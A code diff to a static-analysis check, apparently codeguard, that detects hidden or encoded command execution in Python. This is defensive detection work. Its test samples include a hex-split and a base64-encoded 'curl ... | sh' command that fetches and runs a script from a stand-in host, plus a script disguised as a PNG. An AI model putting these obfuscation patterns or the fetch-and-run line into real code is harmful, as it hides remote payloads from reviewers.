@@ -15,10 +15,11 @@ import libcst as cst
 from codeguard.checks._api import Bad, Check, Good, Hit, Miss
 from codeguard.checks.malicious._calls import calls
 from codeguard.checks.malicious._evaluate import text_of, value_of
-from codeguard.checks.malicious._layers import computed, judged, layers, of_this_group, shown
+from codeguard.checks.malicious._layers import MAX_LAYER_SIZE, STRESS, computed, judged, layers, of_this_group, shown
 from codeguard.checks.malicious._pickled import harmless, names
 from codeguard.checks.malicious._reach import reach
-from codeguard.checks.malicious._shell import commands
+from codeguard.checks.malicious._shell import Command, commands
+from codeguard.checks.malicious._when import when
 from codeguard.knowledge.malicious import running
 from codeguard.model import Confidence, Severity
 from codeguard.syntax.unit import Unit
@@ -45,8 +46,15 @@ SUSPICIOUS = (
     "runcode",
     "push",
     ".run",
+    "b32decode",
+    "b64decode",
+    "unhexlify",
+    "fromhex",
 )
 WORD = re.compile(r"[^\W\d]{3,}")  # what a text does, it does by names
+PYTHON = re.compile(r"(?:^|[/\\])python[\d.]*w?(?:\.exe)?$", re.IGNORECASE)
+COMMANDS = (running.FETCH_AND_RUN, running.SHELL_TO_SOCKET, running.DECODE_AND_RUN)
+SHORTEST = 12  # characters of a command or a line of code that does harm
 BYTE_LOADERS = {"pickle.loads", "dill.loads", "cloudpickle.loads", "_pickle.loads", "marshal.loads"}
 
 
@@ -81,11 +89,22 @@ def find(unit: Unit) -> Iterator[Hit]:
     for command in unit.fact(commands):
         layer = texts.get(id(command.call))
         if layer is not None and id(command.call) not in told and (said := _says(layer.text)):
+            told.add(id(command.call))
             yield Hit(command.call, f"This runs text as code in another Python{said}")
         elif running.DECODE_AND_RUN.search(command.text):
+            told.add(id(command.call))
             yield Hit(command.call, f"This runs an encoded command, which no reader sees: `{shown(command.text)}`")
+        elif (posing := _posing(command)) and when(command.call, unit) != "later":
+            yield Hit(
+                command.call,
+                f"This runs `{posing}`, which by its name is data, as a program: no reader looks for code there",
+                severity=Severity.HIGH,
+                confidence=Confidence.MEDIUM,
+            )
         elif command.words and any(_decodes(word, unit) for word in command.words):
+            told.add(id(command.call))
             yield Hit(command.call, f"This runs a hidden command, which reads `{shown(command.text)}`")
+    yield from _handed_on(unit) if not told else ()
     for name, call in known.of(BYTE_LOADERS):
         data = value_of(call.args[0].value, unit) if call.args and name != "marshal.loads" else None
         if isinstance(data, bytes) and not harmless(data):
@@ -95,6 +114,53 @@ def find(unit: Unit) -> Iterator[Hit]:
                 severity=Severity.HIGH,
                 confidence=Confidence.MEDIUM,
             )
+
+
+def _handed_on(unit: Unit) -> Iterator[Hit]:
+    """Decoded constants that are harmful commands or code, given to something whose name the file hides or makes up."""
+    known = unit.fact(calls)
+    for _name, call in known.of(running.DECODE_CALLS):
+        taker = _taker(call, unit)
+        if taker is None or not _unnamed(known.name_of.get(id(taker))):
+            continue
+        text = text_of(value_of(call, unit)) if call.args else None
+        if not text or len(text) < SHORTEST or len(text) > MAX_LAYER_SIZE or STRESS.search(text):
+            continue
+        if any(pattern.search(text) for pattern in COMMANDS):
+            yield Hit(taker, f"This hands on a hidden command, which reads `{shown(text)}`")
+        elif "(" in text and (said := _says(text)):
+            yield Hit(taker, f"This hands on hidden code, which reads `{shown(text)}`{said}")
+
+
+def _taker(call: cst.Call, unit: Unit) -> cst.Call | None:
+    """The call that is given the decoded text, as it is or as `str`."""
+    node: cst.CSTNode = call
+    for above in unit.ancestors(call):
+        if isinstance(above, cst.Arg):
+            taker = unit.parent(above)
+            return taker if isinstance(taker, cst.Call) else None
+        wraps = isinstance(above, cst.Attribute) and above.attr.value in {"decode", "strip"}
+        if not wraps and not (isinstance(above, cst.Call) and above.func is node):
+            return None
+        node = above
+    return None
+
+
+def _unnamed(name: str | None) -> bool:
+    """Whether a called thing is no library's and no builtin, as far as the text tells."""
+    return name is None or name.startswith("<local>.") or name.endswith(("()", "[]"))
+
+
+def _posing(command: Command) -> str:
+    """The file that a Python is started on, where its name is that of data."""
+    if command.name == "runpy.run_path":
+        script = command.argv[0] if command.argv else ""
+    elif command.argv and PYTHON.search(command.argv[0]) and len(command.argv) > 1:
+        script = next((word for word in command.argv[1:] if not re.match(r"-[BEIOSsuv]+$", word)), "")
+    else:
+        return ""
+    match = running.DATA_FILE.search(script)
+    return match.group() if match else ""
 
 
 def _named(data: bytes) -> str:
@@ -197,6 +263,12 @@ CHECK = Check(
             "import zlib\nB = b'x\\x9c\\x03\\x00\\x00\\x00\\x00\\x01'\ngetattr(__import__('builtins'), 'ex' + 'ec')(zlib.decompress(B))  # finding\n"
         ),
         Bad("k = 7\nd = [119, 117, 110, 105, 115, 47, 54, 46]\neval(''.join(chr(c ^ k) for c in d))  # finding\n"),
+        Bad(
+            "import os, subprocess, sys\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'logo.png')])  # finding\n"
+        ),
+        Bad(
+            "import binascii\nPARTS = {'a': '6375726c202d7320687474703a2f2f', 'b': '3139322e302e322e312f78207c207368'}\n\nclass Job:\n    def __init__(self, how):\n        self.how = how\n\n    def run(self):\n        self.how(binascii.unhexlify(''.join(p for p in PARTS.values())).decode())  # finding\n"
+        ),
         Bad("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))  # finding\n"),
         Bad("exec(')1(tnirp'[::-1])  # finding\n"),
         Bad("import os, base64\nos.system(base64.b64decode('aWQgLXVuIHwgY2F0').decode())  # finding\n"),
@@ -216,6 +288,12 @@ CHECK = Check(
         ),
         Good(
             "import base64\n\ndef header(user, pw):\n    return 'Basic ' + base64.b64encode(f'{user}:{pw}'.encode()).decode()\n\ndef png(s):\n    return base64.b64decode(s.split(',', 1)[1])\n"
+        ),
+        Good(
+            "import os, subprocess, sys\nHERE = os.path.dirname(__file__)\nsubprocess.run([sys.executable, os.path.join(HERE, 'draw.py'), os.path.join(HERE, 'logo.png')], check=True)\n"
+        ),
+        Good(
+            "import base64, re\nSIGNATURE = re.compile(base64.b64decode('Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA==').decode())\n"
         ),
         Good("import codecs\n\ndef spoiler(text):\n    return codecs.encode(text, 'rot13')\n"),
         Good("import zlib\n\ndef index(blob):\n    return zlib.decompress(blob).decode().splitlines()\n"),
